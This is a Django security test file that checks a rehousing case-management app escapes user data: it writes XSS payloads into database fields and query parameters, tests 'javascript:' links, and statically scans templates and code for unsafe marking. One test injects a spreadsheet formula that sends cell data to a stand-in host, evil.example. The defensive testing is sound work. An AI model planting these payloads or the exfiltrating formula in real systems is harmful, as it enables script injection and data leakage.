"""Output safety (ASVS 5.3.3): script, event-handler and htmx payloads in
every free-text field render escaped on every page that shows them, and no template or
Python code marks user data safe.

The payloads are written straight to the database (not through the forms), so the test is
about output encoding alone, whatever validation the forms add.
"""

import ast
import re
from pathlib import Path

import pytest
from django.db import models
from django.urls import reverse
from django.utils import timezone

from tests.factories import ClosureFactory, PhaseChangeFactory
from tests.security.conftest import client_for
from tests.security.support import bugs_for
from tests.security.test_url_policy import url_for

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
HTMX = '<div hx-get="/x">'
PAYLOADS = (SCRIPT, IMG, HTMX)
ALL_PAYLOADS = SCRIPT + IMG + HTMX
# What must never be in a page: the payloads, or the start of one (a truncated payload is
# still live markup), or an htmx attribute that came from data.
RAW = ("<script>alert", "<img src=x", "<div hx-get", 'hx-get="/x"', "onerror=alert(1)>")
# What an escaped payload looks like (Django escapes < > " ' &).
ESCAPED = ("&lt;script&gt;alert(1)", "&lt;img src=x onerror=alert(1)&gt;", "&lt;div hx-get=")

# Fields that are not free text: identifiers, codes, secrets and bookkeeping.
NOT_FREE_TEXT = {
    "reference",
    "answer_token",
    "token",
    "password",
    "username",
    "path",
    "rule",
    "source",
    "object_pk",
    "data",
}


def _payload_for(field, index):
    """The three payloads together when they fit, else one that fits, in turn."""
    limit = field.max_length or 10_000
    if len(ALL_PAYLOADS) + 4 <= limit:
        return f"{ALL_PAYLOADS}{index:04d}"  # a suffix keeps unique fields unique
    fitting = [p for p in PAYLOADS if len(p) + 4 <= limit]
    if not fitting:
        return None
    return f"{fitting[index % len(fitting)]}{index:04d}"


def poison(*objects):
    """Write a payload into every free-text field of each object."""
    index = 0
    for obj in objects:
        for field in obj._meta.concrete_fields:
            if not isinstance(field, models.CharField | models.TextField):
                continue
            if field.choices or field.name in NOT_FREE_TEXT or not field.editable:
                continue
            index += 1
            value = _payload_for(field, index)
            if value is not None:
                setattr(obj, field.name, value)
        obj.save()


@pytest.fixture
def poisoned(world):
    from households.models import BridgeChange
    from referrals.models import ReferralMessage

    own = world.own
    own.entry.shared_with_referrer = True  # shown to the sender on the referral
    own.referral.household = own.household
    own.referral.needs = [SCRIPT, "daycare"]  # an unknown code is shown as it is
    closure = ClosureFactory(
        household=own.closed_household,
        closed_by=world.bridge_builder,
        closed_on=timezone.localdate(),
    )
    phase_change = PhaseChangeFactory(household=own.household, changed_by=world.bridge_builder)
    question = BridgeChange.objects.create(
        bridge=own.bridge, from_status="requested", to_status="requested", changed_by=None
    )
    poison(
        own.household,
        own.closed_household,
        own.applicant,
        own.child,
        own.need,
        own.entry,
        own.offer,
        own.offer.receiving_area,
        own.offer.housing_organisation,
        own.move,
        own.consent,
        own.bridge,
        own.proposed_bridge,
        own.followup,
        own.referral,
        own.draft_referral,
        own.declined_referral,
        *ReferralMessage.objects.filter(referral=own.referral),
        own.actor,
        own.contact,
        own.support_offer,
        world.directory.agreement,
        world.directory.area,
        world.directory.local_contact,
        *world.directory.area.door_hangers.all(),
        world.event,
        closure,
        phase_change,
        question,
        *world.bridge_builder.notifications.all(),
        own.household.origin_area,
        world.bridge_builder,  # names of people show on pages too
        world.rehousing_consultant,
        world.teammate,
    )
    return world


# role → pages that show the poisoned data to that role.
PAGES = {
    "bridge_builder": [
        "home",
        "notifications",
        "households:caseload",
        "households:detail",
        "households:timeline",
        "households:journal_detail",
        "households:edit",
        "households:tenancy",
        "households:member_edit",
        "households:need_edit",
        "households:need_add",
        "households:offer_edit",
        "households:offer_answer",
        "households:move",
        "households:move_edit",
        "households:close",
        "households:consent_add",
        "households:bridge_add",
        "households:phase_change",
        "households:reopen",
        "followups:tasks",
        "followups:detail",
        "followups:create",
        "followups:events",
        "followups:event_detail",
        "referrals:inbox",
        "referrals:detail",
        "actors:directory",
        "actors:actor_list",
        "actors:actor_detail",
        "actors:actor_edit",
        "actors:offer_detail",
        "actors:offer_edit",
        "actors:area_list",
        "actors:area_detail",
        "actors:area_edit",
        "actors:contact_edit",
        "actors:local_contact_edit",
        "actors:door_hanger",
    ],
    "manager": [
        "households:assign",
        "dashboard:index",
        "dashboard:cases",
        "privacy:export_html",
        "privacy:erase",
        "monitor:receiving_areas",
        "audit:log",
    ],
    "rehousing_consultant": ["referrals:mine", "referrals:detail", "referrals:edit"],
    "actor_contact": ["portal:queue", "portal:answer"],
    "anonymous": ["portal:token_answer"],
    "administrator": ["admin:actors_actor_changelist", "admin:actors_actor_change"],
}
# Extra query strings: the door hanger in the poisoned language.
QUERIES = {
    "actors:door_hanger": lambda w: {"sprog": w.directory.area.door_hangers.first().language},
}
# Searches submitted first (they post, and the page is read at the URL they redirect to):
# the audit log of the case.
SEARCHES = {
    "audit:log": lambda w: {"household": w.own.household.reference},
}
# Pages that show the payload only in places that are not free text of the world (none yet).
SHOWS_NO_FREE_TEXT = set()


def _params():
    return [
        pytest.param(role, name, id=f"{name}-{role}", marks=bugs_for("escape", name, role))
        for role, names in PAGES.items()
        for name in names
    ]


@pytest.mark.parametrize(("role", "url_name"), _params())
def test_free_text_renders_escaped_on_every_page_that_shows_it(poisoned, role, url_name):
    url = url_for(url_name, poisoned)
    if url_name in QUERIES:
        from urllib.parse import urlencode

        url += ("&" if "?" in url else "?") + urlencode(QUERIES[url_name](poisoned))
    client = client_for(poisoned, role)
    if url_name in SEARCHES:
        url = client.post(url, SEARCHES[url_name](poisoned))["Location"]
    response = client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    for raw in RAW:
        assert raw not in html, f"unescaped {raw!r}"
    if url_name not in SHOWS_NO_FREE_TEXT:
        assert any(escaped in html for escaped in ESCAPED), "the poisoned data is not shown"


def test_an_actor_website_cannot_become_a_javascript_link(poisoned):
    """Escaping does not stop `javascript:` URLs in href: a website field must not be put
    into an href without a scheme check."""
    actor = poisoned.own.actor
    actor.website = "javascript:alert(1)"
    actor.save()
    client = client_for(poisoned, "bridge_builder")
    for url in (
        reverse("actors:actor_detail", args=[actor.pk]),
        reverse("actors:offer_detail", args=[poisoned.own.support_offer.pk]),
    ):
        html = client.get(url).content.decode()
        assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE)


# Parameters a page echoes back (search boxes, filters, the door hanger's stairwell). Those
# in POSTED are search terms: they are posted and echoed on the page the POST redirects to.
POSTED = {
    ("households:caseload", "q"),
    ("actors:directory", "q"),
    ("actors:actor_list", "q"),
    ("actors:area_list", "q"),
    ("actors:door_hanger", "opgang"),
    ("audit:log", "household"),
}
REFLECTED = [
    ("bridge_builder", "households:caseload", "q"),
    ("bridge_builder", "actors:directory", "q"),
    ("bridge_builder", "actors:actor_list", "q"),
    ("bridge_builder", "actors:area_list", "q"),
    ("bridge_builder", "actors:door_hanger", "opgang"),
    ("bridge_builder", "actors:door_hanger", "sprog"),
    ("bridge_builder", "followups:tasks", "side"),
    ("manager", "audit:log", "household"),
    ("manager", "dashboard:index", "period_from"),
    ("manager", "dashboard:cases", "figure"),
]


@pytest.mark.parametrize(
    ("role", "url_name", "parameter"),
    [
        pytest.param(*row, id=f"{row[1]}-{row[2]}", marks=bugs_for("escape", row[1], row[2]))
        for row in REFLECTED
    ],
)
def test_query_parameters_a_page_echoes_come_back_escaped(world, role, url_name, parameter):
    from urllib.parse import urlencode

    url = url_for(url_name, world).split("?")[0]
    client = client_for(world, role)
    if (url_name, parameter) in POSTED:
        html = client.post(url, {parameter: ALL_PAYLOADS}, follow=True)
    else:
        html = client.get(f"{url}?{urlencode({parameter: ALL_PAYLOADS})}")
    assert html.status_code < 500
    body = html.content.decode()
    for raw in RAW:
        assert raw not in body, f"unescaped {raw!r}"


def test_an_uploaded_rehousing_list_is_shown_escaped_in_the_preview_and_its_errors(world):
    """The import preview repeats the file's cells and names bad ones in its error list."""
    header = (
        "Lejemålsnummer;Husstand;Adresse;Område;Sprog;Tolk;Opsagt;Forventet fraflytning;Bemærkning"
    )
    good = f"A-1;{SCRIPT};{IMG};Vollsmose;{HTMX};ja;01-03-2026;01-06-2026;{SCRIPT}"
    bad = f"A-2;{SCRIPT};{IMG};{HTMX};{SCRIPT};{IMG};{HTMX};{SCRIPT};x"
    content = "\n".join([header, good, bad]).encode("utf-8")
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("liste.csv", content, content_type="text/csv")
    client = client_for(world, "rehousing_consultant")
    response = client.post(url_for("referrals:import", world), {"file": upload})
    assert response.status_code == 200
    body = response.content.decode()
    for raw in RAW:
        assert raw not in body, f"unescaped {raw!r}"
    assert any(escaped in body for escaped in ESCAPED)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_case_names_cannot_become_spreadsheet_formulas(poisoned, fmt):
    """The CSV/XLSX export of a case list: a name starting with = + - @ stays text."""
    import csv
    import io

    from openpyxl import load_workbook

    household = poisoned.own.household
    household.display_name = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    household.save()
    url = reverse("dashboard:export_cases", kwargs={"fmt": fmt}) + "?figure=open"
    content = client_for(poisoned, "manager").get(url).content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
        assert cells and all(not cell.startswith("=") for cell in cells)
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
        assert cells and all(c.data_type == "s" for c in cells)


def test_every_role_with_pages_is_in_the_escaping_table():
    from tests.security.conftest import ROLES

    assert set(PAGES) - {"anonymous"} <= set(ROLES)


# --- Static scans ----------------------------------------------------------------------------

TEMPLATE_DIRS = [ROOT / "templates", *ROOT.glob("*/templates"), *ROOT.glob("*/*/templates")]
SOURCE_DIRS = ("brobygning", "households", "referrals", "actors", "followups")
UNSAFE_TEMPLATE = re.compile(r"\|\s*safe\b|\|\s*safeseq\b|{%\s*autoescape\s+off")
# file → why its mark_safe is not applied to unescaped user data.
ALLOWED_MARK_SAFE = {
    "brobygning/core/suppression.py": "figure links: the URL and the figure both pass "
    "html.escape() before they are put into the markup",
    "brobygning/core/templatetags/form_cache.py": "a filter form rendered by the template "
    "engine (autoescaped) and kept only while unbound, so it holds no user data",
    "brobygning/dashboard/svg.py": "chart markup: `markup` escapes every value but an int or "
    "a float into a literal template, and `concat` escapes any part not already safe",
}


def _templates():
    seen = set()
    for directory in TEMPLATE_DIRS:
        for path in directory.rglob("*"):
            if path.suffix in (".html", ".txt", ".xml", ".ics") and path not in seen:
                seen.add(path)
                yield path


def test_no_template_turns_autoescaping_off_or_marks_a_value_safe():
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in _templates()
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if UNSAFE_TEMPLATE.search(line)
    ]
    assert offenders == []


def test_the_template_scan_sees_the_templates():
    assert len(list(_templates())) > 30


def _unsafe_calls(tree):
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
        if name in ("mark_safe", "SafeString", "SafeText"):
            yield node.lineno, name
        # format_html (and the charts' `markup`) escapes its arguments, but not an f-string
        # or %-built format string.
        if name in ("format_html", "markup") and node.args:
            first = node.args[0]
            if isinstance(first, ast.JoinedStr) or (
                isinstance(first, ast.BinOp) and isinstance(first.op, ast.Mod)
            ):
                yield node.lineno, "format_html(f-string)"


def test_no_python_code_marks_user_data_safe():
    offenders = []
    for directory in SOURCE_DIRS:
        for path in (ROOT / directory).rglob("*.py"):
            relative = str(path.relative_to(ROOT))
            if "/migrations/" in relative or relative in ALLOWED_MARK_SAFE:
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"), filename=relative)
            offenders += [f"{relative}:{line} {name}" for line, name in _unsafe_calls(tree)]
    assert offenders == []


def test_the_allow_listed_mark_safe_escapes_what_it_interpolates():
    """Keeps the allow-list honest: in the allowed file, every value put into the marked-safe
    f-string is a name assigned from escape(), or escape() itself."""
    path = ROOT / "brobygning/core/suppression.py"
    tree = ast.parse(path.read_text(encoding="utf-8"))
    escaped_names = {
        target.id
        for node in ast.walk(tree)
        if isinstance(node, ast.Assign)
        and isinstance(node.value, ast.Call)
        and getattr(node.value.func, "id", "") == "escape"
        for target in node.targets
        if isinstance(target, ast.Name)
    }
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "mark_safe":
            (argument,) = node.args
            assert isinstance(argument, ast.JoinedStr)
            for part in argument.values:
                if isinstance(part, ast.FormattedValue):
                    value = part.value
                    assert (
                        isinstance(value, ast.Call) and getattr(value.func, "id", "") == "escape"
                    ) or (isinstance(value, ast.Name) and value.id in escaped_names)


def test_chart_markup_escapes_all_but_numbers_into_a_literal_template():
    from brobygning.dashboard.svg import concat, markup, markup_join

    assert markup('<text x="{}">{}</text>', 1.5, SCRIPT) == (
        '<text x="1.5">&lt;script&gt;alert(1)&lt;/script&gt;</text>'
    )
    assert markup("{}{}{}", True, "3", markup("<b>{}</b>", 2)) == "True3<b>2</b>"
    assert (
        markup_join("<i>{}</i>", [(IMG,), (7,)])
        == "<i>&lt;img src=x onerror=alert(1)&gt;</i><i>7</i>"
    )
    assert concat([HTMX, markup("<b>{}</b>", 0)]) == "&lt;div hx-get=&quot;/x&quot;&gt;<b>0</b>"
    templates = []
    for path in (ROOT / "brobygning").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") in (
                "markup",
                "markup_join",
            ):
                first = node.args[0]
                if getattr(first, "id", "") == "template":
                    continue  # markup_join handing its own literal on to markup
                templates.append(
                    (path.name, isinstance(first, ast.Constant) and isinstance(first.value, str))
                )
    assert len(templates) > 10
    assert all(literal for _name, literal in templates), templates
